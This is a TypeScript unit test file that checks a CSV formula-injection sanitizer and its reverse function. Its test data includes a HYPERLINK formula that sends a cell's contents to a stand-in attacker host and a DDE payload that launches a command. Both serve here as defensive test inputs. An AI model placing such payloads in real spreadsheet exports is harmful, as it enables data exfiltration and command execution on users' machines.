import { describe, expect, it } from 'vitest';
import { csvCellRead, csvSafeCell } from './csv-safe-cell';

describe('csvSafeCell', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&C2,"Marta")'],
    ["=cmd|' /C calc'!A0"],
    ['+502 5555 1234'],
    ['-2+3'],
    ['@SUM(A1:A2)'],
    ['\t=1+1'],
    ['\r=1+1'],
  ])('puts a single quote before %j', (text) => {
    expect(csvSafeCell(text)).toBe(`'${text}`);
  });

  it.each([['Marta López'], [''], ["'already quoted"], [' =leading space'], ['a=b'], ['{"bio":1}']])(
    'leaves %j as it is',
    (text) => {
      expect(csvSafeCell(text)).toBe(text);
    },
  );

  it('leaves numbers, booleans and empty values as they are (a negative number carries no formula)', () => {
    expect(csvSafeCell(-5)).toBe(-5);
    expect(csvSafeCell(2024)).toBe(2024);
    expect(csvSafeCell(true)).toBe(true);
    expect(csvSafeCell(null)).toBe(null);
  });

  it('is undone by csvCellRead, which leaves any other quote', () => {
    for (const text of ['=1+1', '+502 5555', '-x', '@a', '\tx', '\rx', 'plain', "'plain", "'"])
      expect(csvCellRead(String(csvSafeCell(text)))).toBe(text);
    expect(csvCellRead("'O'Brien")).toBe("'O'Brien");
  });
});
